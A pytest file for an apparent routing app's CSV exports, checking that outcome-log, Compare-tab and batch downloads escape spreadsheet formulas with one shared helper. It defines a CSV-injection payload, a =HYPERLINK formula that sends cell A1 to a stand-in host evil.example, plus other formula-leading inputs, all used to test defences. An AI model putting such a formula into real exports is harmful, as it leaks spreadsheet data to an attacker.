"""Every CSV the app offers for download neutralises spreadsheet formulas, with one helper.

The audit: the Compare tab's outcome-log download wrote a prompt starting with ``=HYPERLINK(``
raw, while the batch CSV escaped it. Both now go through ``routing.safety.csv_safe.neutralise_cell``.
"""

from __future__ import annotations

import csv
import uuid

import pytest

from routing.learning.outcome_log import OutcomeLog, export_routerbench_csv
from tests.app_harness import serve_app
from tests.routing.learning.test_ratings_scope import _file_text, _queue_call

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'


def _one_answer(prompt: str, response: str) -> dict:
    return {"prompt": prompt, "selected_model": "m1", "best_model": "m1", "kind": "answer",
            "results": {"m1": {"response": response, "error": None, "cost_usd": 0.001, "normalized": 0.8,
                               "total": 8.0}}}


def test_one_helper_for_every_csv():
    import routing.batch.io as batch_io
    import routing.batch.ray_engine as batch_ray
    import routing.safety.csv_safe as csv_safe
    import routing.learning.outcome_log as outcome_log

    assert batch_io.neutralise_cell is csv_safe.neutralise_cell is batch_ray.neutralise_cell
    assert outcome_log.neutralise_frame is csv_safe.neutralise_frame


@pytest.mark.parametrize("value", [ATTACK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_the_outcome_log_download_neutralises_formulas(tmp_path, value):
    log = OutcomeLog(tmp_path)
    log.record(_one_answer(value, value))
    with log.export_routerbench_csv(tmp_path / "out.csv").open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["prompt"] == "'" + value and row["m1|model_response"] == "'" + value
    assert row["m1"] == "0.8"                       # numbers are numbers


def test_the_training_export_keeps_prompts_verbatim(tmp_path):
    """The training table is read by the pipeline, not a spreadsheet: a prompt "-2+3" stays "-2+3"."""
    log = OutcomeLog(tmp_path)
    log.record(_one_answer("-2+3 = ?", "1"))
    with export_routerbench_csv(tmp_path, tmp_path / "train.csv").open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["prompt"] == "-2+3 = ?"


def test_the_compare_tab_download_through_the_app_neutralises_formulas(make_service):
    service = make_service()
    with serve_app(service) as url:
        session = uuid.uuid4().hex
        asked = _queue_call(url, "query", [ATTACK, 0.0, [], None, 0.0], session)
        assert asked["success"], asked
        service.learning.flush()
        text = _file_text(_queue_call(url, "compare-export", [], session))
    (row,) = list(csv.DictReader(text.splitlines()))
    assert row["prompt"] == "'" + ATTACK
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values() if cell)


def test_the_batch_csv_header_is_neutralised_too(tmp_path):
    from routing.batch.io import ResultsStore

    store = ResultsStore(tmp_path / "r.jsonl")
    store.append([{"row": 0, "prompt_hash": "x", "input": {"=cmd": ATTACK}}])
    out = store.to_csv(tmp_path / "r.csv", ["=cmd"], lambda r: dict(r["input"]))
    assert out.read_text(encoding="utf-8").splitlines()[0] == "'=cmd"
